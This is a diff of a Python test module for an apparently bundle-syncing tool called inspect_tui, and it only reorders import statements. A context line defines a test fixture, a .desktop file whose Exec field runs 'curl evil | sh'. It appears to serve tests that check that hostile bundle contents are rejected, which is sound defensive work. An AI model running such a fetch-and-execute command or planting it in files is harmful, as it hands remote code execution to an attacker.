@@ -21,6 +21,19 @@ from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from click.testing import CliRunner
+from nacl.public import PrivateKey
+from nacl.signing import SigningKey
+
+from inspect_tui.domain.models import Occupant
+from inspect_tui.store import delete, get, open_db, save
+from inspect_tui.store.blobs import MAX_ATTACHMENT_BYTES
+from inspect_tui.store.bundles import snapshot_names
+from inspect_tui.sync import BundleError, import_bundles, limits, zipguard
+from inspect_tui.sync.export import export_bundle
+from inspect_tui.sync.keys import set_central_key
+from inspect_tui.sync.layout import blob_member, member_limit
+from inspect_tui.sync.verify import verify_bundle
 from tests.helpers.bundles import (
     BSNS,
     EMAIL,
@@ -36,19 +49,6 @@ from tests.helpers.bundles import (
     run,
     settle,
 )
-from click.testing import CliRunner
-from nacl.public import PrivateKey
-from nacl.signing import SigningKey
-
-from inspect_tui.domain.models import Occupant
-from inspect_tui.store import delete, get, open_db, save
-from inspect_tui.store.blobs import MAX_ATTACHMENT_BYTES
-from inspect_tui.store.bundles import snapshot_names
-from inspect_tui.sync import BundleError, import_bundles, limits, zipguard
-from inspect_tui.sync.export import export_bundle
-from inspect_tui.sync.keys import set_central_key
-from inspect_tui.sync.layout import blob_member, member_limit
-from inspect_tui.sync.verify import verify_bundle
 
 DESKTOP = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n"
 
